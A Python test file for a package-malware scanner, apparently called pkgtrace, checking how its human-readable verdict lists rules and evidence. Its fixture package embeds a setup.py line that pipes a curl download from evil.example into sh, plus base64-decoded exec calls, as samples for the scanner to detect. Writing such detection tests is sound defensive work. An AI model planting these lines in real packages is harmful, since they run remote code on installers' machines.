"""The verdict as a person reads it after `pkgtrace analyze` (no --json): label and score, one
line per rule with its evidence, a count of what the line limit left out."""

from __future__ import annotations

import json

from builders import setup_py_package
from clirun import run_cli


def test_analyze_prints_the_verdict_one_line_per_rule_with_its_evidence(tmp_path):
    sdist = setup_py_package(tmp_path, "summary-probe", 'import os\nos.system("curl http://evil.example/x | sh")\n',
                             'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n'
                             'exec(base64.b64decode("cHJpbnQoMik="))\n')
    args = ("analyze", "pypi", "--local", str(sdist), "--mode", "static")
    report = json.loads(run_cli(*args, "--json", check=False).stdout)["report"]
    out = run_cli(*args, check=False).stderr  # stdout stays for --json
    verdict = report["verdict"]
    assert f"verdict: {verdict['label']} (score {verdict['score']})" in out
    rules = list(dict.fromkeys(f["rule"] for f in verdict["findings"]))
    assert "STATIC-PY-DECODE-EXEC" in rules
    for rule in rules[:12]:
        assert sum(line.split()[1:2] == [rule] for line in out.splitlines()) == 1, (rule, out)
    first = next(f for f in verdict["findings"] if f["rule"] == "STATIC-PY-DECODE-EXEC")
    assert f"{first['evidence']['file']}:{first['evidence']['line']}" in out
    if len(rules) > 12:
        assert f"… {len(rules) - 12} more rules (--json)" in out
